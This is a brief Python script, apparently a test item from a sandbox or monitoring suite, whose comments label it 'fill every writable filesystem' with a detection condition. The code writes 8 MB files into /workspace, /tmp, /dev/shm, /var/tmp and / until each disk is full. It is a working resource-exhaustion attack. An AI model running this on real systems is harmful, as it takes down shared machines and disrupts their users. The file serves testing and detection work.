# id: fs-fill-tmpfs
# category: filesystem
# description: fill every writable filesystem (/workspace, /tmp, /dev/shm) until the disk is full
# source: the talk’s list: "filling the file system"
# detect: fill (a filesystem the target shares is full)
import os

chunk = b'\0' * (1 << 20)
for d in ('/workspace', '/tmp', '/dev/shm', '/var/tmp', '/'):
    n = 0
    while True:
        try:
            with open('%s/fill-%d' % (d.rstrip('/'), n), 'wb') as f:
                for _ in range(8):
                    f.write(chunk)
        except OSError:
            break
        n += 1
